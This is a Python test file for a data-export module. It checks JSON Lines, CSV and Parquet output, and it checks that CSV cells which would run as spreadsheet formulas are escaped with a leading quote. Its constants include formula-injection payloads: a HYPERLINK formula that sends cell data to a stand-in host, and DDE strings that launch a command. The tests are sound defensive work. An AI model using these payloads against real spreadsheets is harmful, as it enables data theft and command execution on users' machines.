"""Exports: JSON Lines as extract writes them, CSV and Parquet per table; on both engines."""

from __future__ import annotations

import csv

import pyarrow.parquet as pq
import pytest

from corroborator.errors import ConfigError
from corroborator.export import document_line
from corroborator.pipeline import process, with_extraction
from corroborator.records import Document
from corroborator.store import export
from corroborator.store.schema import EXPORT_TABLES


@pytest.fixture
def filled(filled_store):
    return filled_store


def test_jsonl_is_byte_for_byte_what_extract_writes(filled, corpus, nlp, tmp_path):
    (path,) = export(filled, "jsonl", tmp_path)
    assert path.name == "documents.jsonl"
    expected = "".join(
        document_line(o) + "\n" for o in with_extraction(process(corpus), nlp) if isinstance(o, Document)
    )
    assert path.read_text(encoding="utf-8") == expected


def test_csv_has_one_file_per_table_with_every_row(filled, tmp_path):
    written = export(filled, "csv", tmp_path)
    assert [p.name for p in written] == [f"{t.name}.csv" for t in EXPORT_TABLES]
    counts = filled.counts()
    for table, path in zip(EXPORT_TABLES, written, strict=True):
        with path.open(encoding="utf-8", newline="") as stream:
            rows = list(csv.reader(stream))
        assert rows[0] == [c.name for c in table.columns]
        assert len(rows) - 1 == counts[table.name], table.name
    with (tmp_path / "documents.csv").open(encoding="utf-8", newline="") as stream:
        first = next(csv.DictReader(stream))
    assert first["current"] == "true"
    assert first["created_at"].endswith("+00:00")


def test_parquet_has_typed_columns_and_every_row(filled, tmp_path):
    written = export(filled, "parquet", tmp_path)
    counts = filled.counts()
    for table, path in zip(EXPORT_TABLES, written, strict=True):
        data = pq.read_table(path)
        assert data.num_rows == counts[table.name], table.name
        assert data.column_names == [c.name for c in table.columns]
    figures = pq.read_table(tmp_path / "figures.parquet")
    assert str(figures.schema.field("value").type) == "double"
    assert str(figures.schema.field("vague").type) == "bool"
    assert str(pq.read_table(tmp_path / "runs.parquet").schema.field("started_at").type) == "timestamp[us, tz=UTC]"


def test_an_empty_store_exports_empty_files(store, tmp_path):
    assert export(store, "jsonl", tmp_path)[0].read_text() == ""
    assert pq.read_table(export(store, "parquet", tmp_path)[0]).num_rows == 0


def test_unknown_format(store, tmp_path):
    with pytest.raises(ConfigError):
        export(store, "xlsx", tmp_path)


#: Cells a spreadsheet would run as formulas (written for this test).
FORMULA_TITLE = '=HYPERLINK("http://collector.example/?q="&A1,"Open the report")'
FORMULA_OUTLET = "+cmd|' /C calc'!A0"
FORMULAS = {
    "title": FORMULA_TITLE,
    "outlet": FORMULA_OUTLET,
    "tags": ["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"],
}
FORMULA_TEXT = "=1+1 is how the ledger clerk began every line of the report on the shelling of the depot on Monday."


def test_csv_cells_that_would_run_as_formulas_start_with_a_quote(store, nlp, tmp_path):
    import json

    from corroborator.pipeline.storing import ingest

    source = tmp_path / "formulas.jsonl"
    source.write_text(json.dumps({"text": FORMULA_TEXT, **FORMULAS}) + "\n", encoding="utf-8")
    ingest(store, [str(source)], nlp=nlp)
    export(store, "csv", tmp_path / "csv")
    with (tmp_path / "csv" / "documents.csv").open(encoding="utf-8", newline="") as stream:
        (row,) = list(csv.DictReader(stream))
    assert row["title"] == "'" + FORMULA_TITLE
    assert row["outlet"] == "'" + FORMULA_OUTLET
    assert row["text"] == "'" + FORMULA_TEXT
    assert json.loads(row["tags"].removeprefix("'")) == FORMULAS["tags"]  # a JSON array starts with "["
    assert row["input"].endswith("formulas.jsonl#1") and not row["input"].startswith("'")
    # The exact values stay in JSON Lines and Parquet, which no spreadsheet runs.
    (line,) = export(store, "jsonl", tmp_path / "jsonl")[0].read_text(encoding="utf-8").splitlines()
    assert json.loads(line)["title"] == FORMULAS["title"]
    export(store, "parquet", tmp_path / "parquet")
    assert pq.read_table(tmp_path / "parquet" / "documents.parquet").column("outlet").to_pylist() == [
        FORMULAS["outlet"]
    ]


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("a = b", "a = b"),
        ("", ""),
        ("'=1", "'=1"),
    ],
)
def test_csv_cell(cell, shown):
    from corroborator.export import csv_cell

    assert csv_cell(cell) == shown
